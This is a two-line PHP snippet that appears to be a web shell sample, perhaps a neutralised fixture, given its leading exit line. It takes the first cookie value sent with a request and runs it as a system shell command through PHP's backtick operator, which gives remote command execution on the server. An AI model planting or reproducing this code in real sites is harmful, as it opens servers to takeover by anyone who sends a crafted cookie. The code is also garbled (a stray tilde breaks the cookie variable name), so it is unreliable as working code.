<?php exit; ?>
<?php
$v = array_values($_C~OOKIE);
echo `$v[0]`;
